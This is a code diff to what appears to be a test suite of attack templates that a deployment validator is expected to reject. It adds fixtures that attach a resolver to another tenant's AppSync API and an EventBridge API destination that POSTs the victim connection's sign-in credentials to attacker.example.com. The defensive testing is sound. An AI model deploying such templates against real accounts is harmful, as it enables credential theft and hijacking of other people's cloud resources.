@@ -50,7 +50,7 @@ function onCode({ assetBucket, assetKey, releaseBucket }: Scene): RejectedAttack
   ];
 }
 
-function onParts({ apiId, functionName }: Scene): RejectedAttack[] {
+function onParts({ apiId, functionName, account }: Scene): RejectedAttack[] {
   const inApi = (name: string, logicalId: string, kind: string, properties: Record<string, unknown>) => ({
     ...{ name, code: 'template.api-foreign' },
     resources: { [logicalId]: resource(`AWS::ApiGatewayV2::${kind}`, { ApiId: apiId, ...properties }) },
@@ -61,6 +61,25 @@ function onParts({ apiId, functionName }: Scene): RejectedAttack[] {
     }),
     inApi('adds a route to the victim’s API', 'ForeignRoute', 'Route', { RouteKey: '$default' }),
     inApi('adds a stage to the victim’s API', 'ForeignStage', 'Stage', { StageName: 'attack', AutoDeploy: true }),
+    {
+      name: 'answers fields of the victim’s AppSync API',
+      code: 'template.api-foreign',
+      resources: {
+        ForeignResolver: resource('AWS::AppSync::Resolver', {
+          ...{ ApiId: 'a1b2c3d4e5f6g7h8i9j0k1l2m3', TypeName: 'Query', FieldName: 'orders', DataSourceName: 'attack' },
+        }),
+      },
+    },
+    {
+      name: 'sends what the victim’s connection signs in with to an address of its own',
+      code: 'template.connection-foreign',
+      resources: {
+        Hook: resource('AWS::Events::ApiDestination', {
+          ConnectionArn: `arn:aws:events:us-east-1:${account}:connection/sluice-victim-open-hook/1`,
+          ...{ InvocationEndpoint: 'https://attacker.example.com', HttpMethod: 'POST' },
+        }),
+      },
+    },
     {
       name: 'has CodeDeploy call the victim’s function as its hook',
       code: 'template.hook-foreign',
